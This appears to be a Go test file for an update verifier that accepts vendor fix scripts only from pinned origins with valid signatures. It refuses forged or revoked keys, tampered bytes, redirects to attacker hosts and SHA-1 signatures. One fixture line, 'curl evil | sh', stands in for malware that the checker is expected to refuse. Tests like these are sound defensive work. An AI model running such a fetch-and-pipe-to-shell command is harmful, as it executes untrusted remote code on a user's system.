package origin

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/patchnet/patchnet/trust"
	"github.com/patchnet/patchnet/updates"
)

var payload = []byte("#!/bin/sh\necho the vendor's real fix\n")

// vendorFixture is a vendor origin serving payload at /pool/fix.sh, with
// whatever signature files the test puts beside it.
type vendorFixture struct {
	vendor *server
	url    string
	origin string
}

func newVendor(t *testing.T, content []byte) *vendorFixture {
	t.Helper()
	v := newServer(t)
	return &vendorFixture{vendor: v, url: v.put("/pool/fix.sh", content), origin: v.URL + "/pool/"}
}

// mustRefuse wants an untrusted refusal matching want, no file left, and
// nothing fetched from the counted servers.
func mustRefuse(t *testing.T, r *Report, err error, want error, dir string, untouched ...*server) {
	t.Helper()
	if !errors.Is(err, want) || !errors.Is(err, trust.ErrUntrusted) {
		t.Fatalf("err = %v, want %v (and trust.ErrUntrusted)", err, want)
	}
	if r == nil || r.Path != "" {
		t.Fatalf("report %+v names a verified file after a refusal", r)
	}
	t.Logf("refused: %v", err)
	assertEmptyDir(t, dir)
	for _, s := range untouched {
		if n := s.requests.Load(); n != 0 {
			t.Errorf("%s got %d requests, want none", s.URL, n)
		}
	}
}

func assertEmptyDir(t *testing.T, dir string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		t.Errorf("%s left in the download directory", e.Name())
	}
}

// checkIn runs Check into a fresh directory and returns it too.
func checkIn(t *testing.T, p Policy, art *updates.Artifact) (*Report, string, error) {
	t.Helper()
	dir := t.TempDir()
	r, err := Check(context.Background(), p, art, dir)
	return r, dir, err
}

func TestVendorSignedArtifactAccepted(t *testing.T) {
	for _, tc := range []struct {
		name, suffix string
		armor        bool
	}{
		{"binary .sig", ".sig", false},
		{"armored .asc", ".asc", true},
		{"armored .sig", ".sig", true},
		{"binary .asc", ".asc", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := newVendor(t, payload)
			sig := sign(t, vendorKey, writeTemp(t, "fix.sh", payload), tc.armor)
			v.vendor.put("/pool/fix.sh"+tc.suffix, sig)
			r, err := check(t, policy(t, true, []string{v.origin}, vendorKey), artifact("fix.sh", payload, updates.MethodScript, v.url))
			if err != nil {
				t.Fatal(err)
			}
			got, _ := os.ReadFile(r.Path)
			if string(got) != string(payload) || r.URL != v.url || len(r.Signatures) != 1 || r.Unsigned != "" {
				t.Fatalf("report %+v, file %q", r, got)
			}
			s := r.Signatures[0]
			if s.Kind != KindDetached || s.Fingerprint != vendorKey.fpr || s.UserID != vendorKey.uid || s.Source != v.url+tc.suffix {
				t.Fatalf("signature %+v, want a detached one by %s from %s", s, vendorKey.fpr, v.url+tc.suffix)
			}
			if !strings.Contains(r.Summary(), vendorKey.fpr) {
				t.Errorf("summary %q does not name the key", r.Summary())
			}
		})
	}
}

// The attacker holds the publisher key and announces malware with a
// signature of their own beside it, on the vendor's origin (a compromised
// mirror): the key is not pinned.
func TestVendorSignatureForgedRefused(t *testing.T) {
	for _, require := range []bool{true, false} {
		malware := []byte("#!/bin/sh\ncurl evil | sh\n")
		v := newVendor(t, malware)
		v.vendor.put("/pool/fix.sh.asc", sign(t, attackerKey, writeTemp(t, "fix.sh", malware), true))
		r, dir, err := checkIn(t, policy(t, require, []string{v.origin}, vendorKey), artifact("fix.sh", malware, updates.MethodScript, v.url))
		mustRefuse(t, r, err, ErrUnpinnedKey, dir)
		if !strings.Contains(err.Error(), attackerKey.fpr[24:]) {
			t.Errorf("error %q does not name the signing key", err)
		}
	}
}

// The vendor's origin serves altered bytes beside the vendor's genuine
// signature of the original: the signature does not cover them.
func TestTamperedArtifactOnVendorOriginRefused(t *testing.T) {
	tampered := append([]byte(nil), payload...)
	tampered[len(tampered)-2] ^= 0x20
	v := newVendor(t, tampered)
	v.vendor.put("/pool/fix.sh.sig", sign(t, vendorKey, writeTemp(t, "fix.sh", payload), false))
	for _, require := range []bool{true, false} {
		r, dir, err := checkIn(t, policy(t, require, []string{v.origin}, vendorKey), artifact("fix.sh", tampered, updates.MethodScript, v.url))
		mustRefuse(t, r, err, trust.ErrBadSignature, dir)
	}
}

func TestUnsignedArtifactRefusedWhenSignatureRequired(t *testing.T) {
	v := newVendor(t, payload)
	r, dir, err := checkIn(t, policy(t, true, []string{v.origin}, vendorKey), artifact("fix.sh", payload, updates.MethodScript, v.url))
	mustRefuse(t, r, err, ErrUnsigned, dir)
	if !strings.Contains(err.Error(), "no detached signature") {
		t.Errorf("error %q does not say where it looked", err)
	}
}

func TestUnsignedArtifactAcceptedWhenPolicyAllows(t *testing.T) {
	for _, tc := range []struct {
		name string
		keys []*testKey
		asc  http.HandlerFunc
	}{
		{"no signature", []*testKey{vendorKey}, nil},
		{"soft 404 page", []*testKey{vendorKey}, func(w http.ResponseWriter, _ *http.Request) { w.Write([]byte("<html>not found</html>")) }},
		{"object store 403", []*testKey{vendorKey}, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusForbidden) }},
		{"no key pinned", nil, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := newVendor(t, payload)
			if tc.asc != nil {
				v.vendor.handle("/pool/fix.sh.asc", tc.asc)
			}
			r, err := check(t, policy(t, false, []string{v.origin}, tc.keys...), artifact("fix.sh", payload, updates.MethodScript, v.url))
			if err != nil {
				t.Fatal(err)
			}
			if r.Path == "" || len(r.Signatures) != 0 || r.Unsigned == "" {
				t.Fatalf("report %+v: want a verified path, no signature and why none was needed", r)
			}
			if !strings.Contains(r.Summary(), "unsigned") {
				t.Errorf("summary %q does not say unsigned", r.Summary())
			}
		})
	}
}

// The attacker's announcement, signed with the stolen publisher key, points
// at the attacker's own host: nothing is fetched.
func TestStolenPublisherKeyMalwareFromAttackerHostRefused(t *testing.T) {
	malware := []byte("malware")
	attacker := newServer(t)
	url := strings.Replace(attacker.put("/pool/fix.sh", malware), "127.0.0.1", "localhost", 1)
	attacker.put("/pool/fix.sh.asc", sign(t, vendorKey, writeTemp(t, "m", malware), true)) // even a genuine signature
	v := newVendor(t, payload)
	r, dir, err := checkIn(t, policy(t, false, []string{v.origin}, vendorKey), artifact("fix.sh", malware, updates.MethodScript, url))
	mustRefuse(t, r, err, ErrOutsideOrigins, dir, attacker, v.vendor)
	if len(r.Refused) != 1 || !strings.Contains(r.Refused[0].Reason, "host localhost is not in the origins") {
		t.Fatalf("refused %+v, want the attacker's host refused", r.Refused)
	}
}

// A first URL on the attacker's host is skipped unfetched; the second, on
// the vendor's origin, supplies the bytes.
func TestAttackerURLFirstVendorURLSecond(t *testing.T) {
	attacker := newServer(t)
	bad := attacker.put("/pool/fix.sh", payload)
	v := newVendor(t, payload)
	v.vendor.put("/pool/fix.sh.asc", sign(t, vendorKey, writeTemp(t, "fix.sh", payload), true))
	r, err := check(t, policy(t, true, []string{v.origin}, vendorKey), artifact("fix.sh", payload, updates.MethodScript, bad, v.url))
	if err != nil {
		t.Fatal(err)
	}
	if r.URL != v.url || len(r.Refused) != 1 || r.Refused[0].URL != bad || attacker.requests.Load() != 0 {
		t.Fatalf("report %+v, attacker requests %d", r, attacker.requests.Load())
	}
}

// A URL inside the origin redirects to the attacker (an open redirector on
// the vendor's site): the redirect is refused before it is followed.
func TestVendorOpenRedirectToAttackerRefused(t *testing.T) {
	attacker := newServer(t)
	evil := attacker.put("/pool/fix.sh", payload)
	v := newVendor(t, payload)
	url := v.vendor.handle("/pool/go", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, evil, http.StatusFound) })
	r, dir, err := checkIn(t, policy(t, false, []string{v.origin}), artifact("fix.sh", payload, updates.MethodScript, url))
	if err == nil || !errors.Is(err, ErrOutsideOrigins) {
		t.Fatalf("err = %v, want the redirect refused", err)
	}
	t.Logf("refused: %v", err)
	assertEmptyDir(t, dir)
	if attacker.requests.Load() != 0 || len(r.Failed) != 1 {
		t.Fatalf("attacker got %d requests; report %+v", attacker.requests.Load(), r)
	}
}

// A redirect that stays inside the origins is followed, with a query the
// server chose (a signed CDN link) too.
func TestRedirectWithinOriginsFollowed(t *testing.T) {
	for _, target := range []string{"/pool/fix.sh", "/pool/fix.sh?expires=1700000000&signature=abc"} {
		v := newVendor(t, payload)
		url := v.vendor.handle("/pool/latest", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, target, http.StatusFound) })
		r, err := check(t, policy(t, false, []string{v.origin}), artifact("fix.sh", payload, updates.MethodScript, url))
		if err != nil || r.URL != url {
			t.Fatalf("redirect to %s: report %+v, err %v", target, r, err)
		}
	}
}

// The vendor serves other bytes than the publisher announced (or the
// announcement lies about them): the digest check refuses them.
func TestAnnouncedDigestNotWhatVendorServesRefused(t *testing.T) {
	v := newVendor(t, payload)
	r, dir, err := checkIn(t, policy(t, false, []string{v.origin}), artifact("fix.sh", []byte("malware with another digest"), updates.MethodScript, v.url))
	if !errors.Is(err, trust.ErrUntrusted) || len(r.Failed) != 1 {
		t.Fatalf("err = %v, report %+v", err, r)
	}
	assertEmptyDir(t, dir)
}

// A mirror that fails costs a retry at the next allowed URL.
func TestFailingMirrorFallsBackToNextAllowedURL(t *testing.T) {
	v := newVendor(t, payload)
	down := v.vendor.handle("/pool/mirror/fix.sh", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusBadGateway) })
	v.vendor.put("/pool/fix.sh.sig", sign(t, vendorKey, writeTemp(t, "fix.sh", payload), false))
	r, err := check(t, policy(t, true, []string{v.origin}, vendorKey), artifact("fix.sh", payload, updates.MethodScript, down, v.url))
	if err != nil || r.URL != v.url || len(r.Failed) != 1 || r.Failed[0].URL != down || len(r.Signatures) != 1 {
		t.Fatalf("report %+v, err %v", r, err)
	}
}

// A server error on the signature probe leaves the check undecided: an
// error, not a refusal and not an unsigned acceptance.
func TestSignatureProbeServerErrorFails(t *testing.T) {
	v := newVendor(t, payload)
	v.vendor.handle("/pool/fix.sh.asc", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusServiceUnavailable) })
	r, dir, err := checkIn(t, policy(t, false, []string{v.origin}, vendorKey), artifact("fix.sh", payload, updates.MethodScript, v.url))
	if err == nil || errors.Is(err, trust.ErrUntrusted) || r.Path != "" {
		t.Fatalf("err = %v, report %+v: want a plain failure", err, r)
	}
	assertEmptyDir(t, dir)
}

// A "signature" past MaxSignatureBytes is refused without reading on.
func TestOversizedSignatureRefused(t *testing.T) {
	v := newVendor(t, payload)
	v.vendor.put("/pool/fix.sh.asc", append([]byte{0x89}, make([]byte, MaxSignatureBytes)...))
	r, dir, err := checkIn(t, policy(t, false, []string{v.origin}, vendorKey), artifact("fix.sh", payload, updates.MethodScript, v.url))
	mustRefuse(t, r, err, trust.ErrOversized, dir)
}

func TestNewCheckerRefusesBadPolicy(t *testing.T) {
	if _, err := NewChecker(Policy{}, updates.FetchOptions{}); err == nil || !strings.Contains(err.Error(), "origins") {
		t.Fatalf("err = %v, want origins named", err)
	}
	if _, err := NewChecker(Policy{Origins: []string{"https://deb.example.org/"}}, updates.FetchOptions{}); err == nil {
		t.Fatal("a policy requiring signatures without keys was accepted")
	}
}

// The vendor revoked its key after a compromise, and the operator pinned
// the key as now published: a signature made with it (before or after) no
// longer vouches.
func TestRevokedVendorKeySignatureRefused(t *testing.T) {
	k := newKey(t, "Revoked Vendor")
	v := newVendor(t, payload)
	v.vendor.put("/pool/fix.sh.asc", sign(t, k, writeTemp(t, "fix.sh", payload), true))
	revoke(t, k)
	r, dir, err := checkIn(t, policy(t, false, []string{v.origin}, k), artifact("fix.sh", payload, updates.MethodScript, v.url))
	mustRefuse(t, r, err, trust.ErrBadSignature, dir)
	if !strings.Contains(err.Error(), "revoked") {
		t.Errorf("error %q does not say the key is revoked", err)
	}
}

// A vendor signature over SHA-1 is refused: collisions are within reach.
func TestSHA1VendorSignatureRefused(t *testing.T) {
	v := newVendor(t, payload)
	v.vendor.put("/pool/fix.sh.sig", signWith(t, vendorRSAKey, writeTemp(t, "fix.sh", payload), "--digest-algo", "SHA1"))
	r, dir, err := checkIn(t, policy(t, false, []string{v.origin}, vendorRSAKey), artifact("fix.sh", payload, updates.MethodScript, v.url))
	mustRefuse(t, r, err, trust.ErrBadSignature, dir)
}

// A mirror without a signature comes first; the vendor's own origin,
// second, has it: the signature is found beside the second URL and
// verified over the bytes from the first.
func TestSignatureFoundBesideLaterAllowedURL(t *testing.T) {
	v := newVendor(t, payload)
	mirror := v.vendor.put("/pool/mirror/fix.sh", payload)
	v.vendor.put("/pool/fix.sh.asc", sign(t, vendorKey, writeTemp(t, "fix.sh", payload), true))
	r, err := check(t, policy(t, true, []string{v.origin}, vendorKey), artifact("fix.sh", payload, updates.MethodScript, mirror, v.url))
	if err != nil {
		t.Fatal(err)
	}
	if r.URL != mirror || len(r.Signatures) != 1 || r.Signatures[0].Source != v.url+".asc" {
		t.Fatalf("report %+v", r)
	}
}

// An https origin fetched with the caller's client (here trusting the test
// server's certificate); http to the same host is refused unfetched.
func TestHTTPSOriginWithCallerClient(t *testing.T) {
	var requests atomic.Int64
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests.Add(1)
		w.Write(payload)
	}))
	t.Cleanup(srv.Close)
	p := policy(t, false, []string{srv.URL + "/pool/"})
	c, err := NewChecker(p, updates.FetchOptions{Client: srv.Client()})
	if err != nil {
		t.Fatal(err)
	}
	plain := strings.Replace(srv.URL, "https://", "http://", 1) + "/pool/fix.sh"
	r, err := c.Check(context.Background(), artifact("fix.sh", payload, updates.MethodArchive, plain, srv.URL+"/pool/fix.sh"), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Refused) != 1 || !strings.Contains(r.Refused[0].Reason, "scheme http is not allowed") || r.URL != srv.URL+"/pool/fix.sh" {
		t.Fatalf("report %+v", r)
	}
	if n := requests.Load(); n != 1 { // no key pinned: no signature looked for
		t.Errorf("%d requests, want 1", n)
	}
}
